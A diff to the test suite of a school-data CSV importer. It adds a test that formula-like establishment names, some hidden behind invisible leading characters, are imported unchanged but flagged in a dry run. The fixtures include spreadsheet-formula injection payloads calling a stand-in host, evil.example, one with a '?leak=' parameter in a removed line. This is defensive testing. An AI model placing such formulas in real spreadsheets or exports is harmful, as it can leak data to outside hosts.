@@ -137,6 +137,22 @@ def _formula() -> bytes:
     return gias_csv(rows)
 
 
+def test_a_name_that_looks_like_a_formula_is_imported_as_given_and_flagged(runner, tmp_path):
+    """The review's finding: a leading NBSP, vertical tab or form feed slipped a "=" name past the refusal;
+    and refusing such names blocked the whole DfE extract, which is not the lead's to edit."""
+    rows = standard_rows()
+    rows[0]["EstablishmentName"] = "\u00a0=HYPERLINK(\"http://evil.example\",\"x\")"
+    rows[1]["EstablishmentName"] = "\x0b+Saint Chad\u2019s\x0cPrimary"
+    dry = run_import(runner, tmp_path, gias_csv(rows), "--dry-run")
+    assert dry.exit_code == 0, dry.output
+    assert "2 values look like spreadsheet formulas" in dry.output
+    assert "line 2, column EstablishmentName" in dry.output and "line 3, column EstablishmentName" in dry.output
+    done = run_import(runner, tmp_path, gias_csv(rows))
+    assert done.exit_code == 0, done.output
+    names = {e.name for e in by_urn().values()}
+    assert '=HYPERLINK("http://evil.example","x")' in names and "+Saint Chad\u2019s Primary" in names
+
+
 def _bad_number() -> bytes:
     rows = standard_rows()
     rows[1]["NumberOfPupils"] = "about 300"
@@ -173,8 +189,6 @@ def _new_trust_without_a_name() -> bytes:
     (_semicolons, "line 1: the file is separated by semicolons; save it as comma-separated CSV"),
     (_duplicate, "line 6, column URN: URN 100002 is also on line 3: each establishment must appear once"),
     (_undecodable, "line 2: byte 0x8D is not UTF-8 or Windows-1252 text"),
-    (_formula, 'line 4, column EstablishmentName: "=HYPERLINK("http://evil.example/?leak="…" looks like a spreadsheet '
-              'formula: remove the leading "="'),
     (_missing_column, 'line 1: the file has no "EstablishmentName" column'),
     (_bad_number, 'line 3, column NumberOfPupils: "about 300" must be a whole number, like 420, or blank'),
     (_bad_date, 'line 2, column OpenDate: "31-02-2020" must be a real date'),
